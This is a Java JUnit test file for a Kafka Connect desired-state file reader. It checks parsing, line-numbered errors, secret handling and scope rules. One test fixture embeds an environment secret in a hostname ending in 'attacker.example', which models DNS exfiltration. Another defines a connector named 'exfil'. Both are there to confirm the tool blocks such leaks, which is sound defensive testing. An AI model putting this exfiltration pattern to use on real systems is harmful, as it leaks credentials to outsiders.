package io.switchboard.apply;

import io.switchboard.apply.DesiredStateFiles.Options;
import io.switchboard.apply.DesiredStateFiles.Source;
import io.switchboard.core.DesiredState;
import io.switchboard.core.DesiredState.Connector;
import io.switchboard.secrets.Redactor;
import io.switchboard.schemas.TargetState;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class DesiredStateFilesTest {
    private static final Map<String, String> ENV = Map.of("DB_PASSWORD", "s3cret", "TOPIC", "orders");
    private static final Options OPTIONS = new Options(null, "default", ENV::get, Redactor.DEFAULT, Set.of("TOPIC"));

    private static DesiredState read(Source... files) {
        return DesiredStateFiles.read(List.of(files), OPTIONS);
    }

    private static DesiredStateException problems(Source... files) {
        return assertThrows(DesiredStateException.class, () -> read(files));
    }

    @Test
    void readsASetAndItsConnectorsAsTheIssueWritesThem() {
        DesiredState state = read(new Source("orders.yaml", """
                apiVersion: switchboard.io/v1
                kind: ConnectorSet
                metadata: {name: orders}
                spec: {cluster: default, selector: {team: orders}}
                ---
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: orders-sink, cluster: default, labels: {team: orders}}
                spec:
                  class: org.apache.kafka.connect.file.FileStreamSinkConnector
                  tasksMax: 1
                  state: paused
                  config: {topics: "${TOPIC}", file: /tmp/switchboard-test-files/orders.out, batch.size: 100}
                """));
        assertEquals("orders", state.set().name());
        assertEquals("default", state.set().cluster());
        assertEquals(Map.of("team", "orders"), state.set().selector());
        Connector sink = state.connectors().get(0);
        assertEquals("orders-sink", sink.name());
        assertEquals(TargetState.PAUSED, sink.state());
        assertEquals(Map.of("connector.class", "org.apache.kafka.connect.file.FileStreamSinkConnector", "tasks.max", "1",
                "topics", "orders", "file", "/tmp/switchboard-test-files/orders.out", "batch.size", "100"), sink.config());
    }

    @Test
    void readsStrimziKafkaConnectorsUnchanged() {
        DesiredState state = read(new Source("strimzi.yaml", """
                apiVersion: kafka.strimzi.io/v1beta2
                kind: KafkaConnector
                metadata:
                  name: my-source-connector
                  namespace: kafka
                  labels:
                    strimzi.io/cluster: default
                spec:
                  class: org.apache.kafka.connect.file.FileStreamSourceConnector
                  tasksMax: 2
                  state: stopped
                  autoRestart: {enabled: true}
                  config:
                    file: "/opt/kafka/LICENSE"
                    topic: my-topic
                """));
        Connector source = state.connectors().get(0);
        assertEquals("default", state.set().cluster());
        assertEquals("default", state.set().name());
        assertEquals(TargetState.STOPPED, source.state());
        assertEquals("2", source.config().get("tasks.max"));
        assertEquals(Map.of("strimzi.io/cluster", "default"), source.labels());
    }

    @Test
    void readsKcctlJsonFilesWithAndWithoutTheirConfigObject() {
        DesiredState state = read(new Source("a.json", """
                {"name": "a", "config": {"connector.class": "FileStreamSource", "name": "a", "tasks.max": "1", "topic": "t"}}
                """), new Source("b.json", """
                {"name": "b", "connector.class": "FileStreamSink", "topics": "t"}
                """));
        assertEquals(2, state.connectors().size());
        assertNull(state.connectors().get(0).state(), "kcctl declares no state: an existing connector keeps its own");
        assertEquals(Map.of("connector.class", "FileStreamSource", "tasks.max", "1", "topic", "t"), state.connectors().get(0).config(),
                "name is the document's, not a config key that would differ from what the worker shows");
        assertEquals(Map.of("connector.class", "FileStreamSink", "topics", "t"), state.connectors().get(1).config());
    }

    @Test
    void aBadFieldIsNamedWithItsFileDocumentAndLine() {
        DesiredStateException e = problems(new Source("bad.yaml", """
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: ok, cluster: default}
                spec: {class: X, config: {}}
                ---
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: broken, cluster: default}
                spec:
                  class: X
                  tasksMax: many
                  state: sleeping
                  colour: blue
                """));
        assertEquals(List.of(
                "bad.yaml: document 2, line 11, spec.tasksMax: must be a whole number from 1, not many",
                "bad.yaml: document 2, line 12, spec.state: must be running, paused or stopped, not sleeping",
                "bad.yaml: document 2, line 13, spec.colour: unknown field (expected class, config, state, tasksMax, version)"),
                e.problems().stream().map(Object::toString).sorted().toList());
    }

    @Test
    void yamlThatDoesNotParseIsNamedWithItsLine() {
        DesiredStateException e = problems(new Source("broken.yaml", "kind: Connector\nmetadata: {name: [x\n"));
        assertEquals("broken.yaml", e.problems().get(0).file());
        assertTrue(e.problems().get(0).line() >= 2, e.getMessage());
    }

    @Test
    void secretsOnlyByReferenceAndAMissingVariableIsRefused() {
        DesiredStateException e = problems(new Source("s.yaml", """
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: db}
                spec:
                  class: X
                  config:
                    connection.password: hunter2
                    api.key: ${MISSING_KEY}
                """));
        assertEquals(List.of(
                "s.yaml: document 1, line 7, spec.config.connection.password: a secret in plain text: give it by reference, "
                        + "${ENV_VAR} (expanded from the environment), ${secretsManager:NAME} or a sealed value",
                "s.yaml: document 1, line 8, spec.config.api.key: environment variable MISSING_KEY is not set"),
                e.problems().stream().map(Object::toString).toList());
        assertTrue(!e.getMessage().contains("hunter2"), "a problem never quotes a secret's value");

        DesiredState ok = read(new Source("s.yaml", """
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: db}
                spec:
                  class: X
                  config: {connection.password: "${DB_PASSWORD}", api.key: "${secretsManager:orders-key}"}
                """));
        assertEquals("s3cret", ok.connectors().get(0).config().get("connection.password"));
        assertEquals("${secretsManager:orders-key}", ok.connectors().get(0).config().get("api.key"));
    }

    @Test
    void aVariableInANonSecretKeyIsExpandedOnlyWhenNamed() {
        Source file = new Source("leak.yaml", """
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: leak}
                spec:
                  class: X
                  config: {topics: "leak-${DB_PASSWORD}", database.hostname: "${DB_PASSWORD}.attacker.example"}
                """);
        DesiredStateException e = problems(file);
        assertEquals(List.of(
                "leak.yaml: document 1, line 6, spec.config.database.hostname: ${DB_PASSWORD} is expanded only in the value "
                        + "of a secret key; to expand it in spec.config.database.hostname too, name it with --env DB_PASSWORD",
                "leak.yaml: document 1, line 6, spec.config.topics: ${DB_PASSWORD} is expanded only in the value of a secret "
                        + "key; to expand it in spec.config.topics too, name it with --env DB_PASSWORD"),
                e.problems().stream().map(Object::toString).sorted().toList());
        assertTrue(!e.getMessage().contains("s3cret"), e::getMessage);
        // Named, it is expanded anywhere.
        DesiredState named = DesiredStateFiles.read(List.of(file),
                new Options(null, "default", ENV::get, Redactor.DEFAULT, Set.of("DB_PASSWORD")));
        assertEquals("leak-s3cret", named.connectors().get(0).config().get("topics"));
    }

    /** A plan expands only what --env names, secret keys included: its worker validation connects where the files say. */
    @Test
    void aPlanExpandsOnlyTheVariablesNamedWithEnvEvenInSecretKeys() throws Exception {
        java.nio.file.Path pr = java.nio.file.Files.createTempDirectory("pr");
        java.nio.file.Files.writeString(pr.resolve("x.yaml"), """
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: exfil, cluster: default}
                spec:
                  class: io.debezium.connector.postgresql.PostgresConnector
                  config: {database.hostname: 127.0.0.1, database.port: "15432", database.user: x, database.dbname: x, topic.prefix: exfil, database.password: "${SWITCHBOARD_PASSWORD}"}
                """);
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        // Nothing listens there: nothing is sent before the files read without error.
        int status = ApplyCommand.run(List.of("-f", pr.toString(), "--url", "http://127.0.0.1:9", "--dry-run"),
                Map.of("SWITCHBOARD_USER", "erin", "SWITCHBOARD_PASSWORD", "erin-key"),
                new java.io.PrintStream(out, true, java.nio.charset.StandardCharsets.UTF_8));
        String printed = out.toString(java.nio.charset.StandardCharsets.UTF_8);
        assertEquals(1, status, printed);
        assertTrue(printed.contains("spec.config.database.password: ${SWITCHBOARD_PASSWORD} is not expanded on a plan (--dry-run) "
                + "unless named with --env SWITCHBOARD_PASSWORD"), printed);
        assertTrue(!printed.contains("erin-key"), printed);

        Source file = new Source("x.yaml", java.nio.file.Files.readString(pr.resolve("x.yaml")));
        Map<String, String> env = Map.of("SWITCHBOARD_PASSWORD", "placeholder");
        DesiredState named = DesiredStateFiles.read(List.of(file),
                new Options(null, "default", env::get, Redactor.DEFAULT, Set.of("SWITCHBOARD_PASSWORD"), true));
        assertEquals("placeholder", named.connectors().get(0).config().get("database.password"), "named with --env: expanded");
        DesiredState applied = DesiredStateFiles.read(List.of(file), new Options(null, "default", env::get, Redactor.DEFAULT, Set.of()));
        assertEquals("placeholder", applied.connectors().get(0).config().get("database.password"), "an apply expands secret keys");
    }

    @Test
    void aConnectorOutsideTheSetsScopeOrClusterIsRefused() {
        DesiredStateException e = problems(new Source("x.yaml", """
                apiVersion: switchboard.io/v1
                kind: ConnectorSet
                metadata: {name: orders}
                spec: {cluster: default, selector: {team: orders}}
                ---
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: billing, labels: {team: billing}}
                spec: {class: X}
                ---
                apiVersion: switchboard.io/v1
                kind: Connector
                metadata: {name: elsewhere, cluster: other, labels: {team: orders}}
                spec: {class: X}
                """));
        List<String> shown = e.problems().stream().map(Object::toString).toList();
        assertEquals(2, shown.size(), shown.toString());
        assertTrue(shown.get(0).startsWith("x.yaml: document 2, line 8, metadata.labels: connector billing is outside set orders's scope"),
                shown.get(0));
        assertTrue(shown.get(1).startsWith("x.yaml: document 3, line 13, metadata.cluster: connector elsewhere is in cluster other"),
                shown.get(1));
    }

    @Test
    void duplicatesAndASecondSetAreRefused() {
        DesiredStateException e = problems(new Source("d.yaml", """
                {"name": "a", "config": {"connector.class": "X"}}
                """), new Source("e.json", """
                {"name": "a", "config": {"connector.class": "Y"}}
                """));
        assertEquals("e.json: document 1, line 1, metadata.name: connector a is declared twice", e.problems().get(0).toString());
    }
}
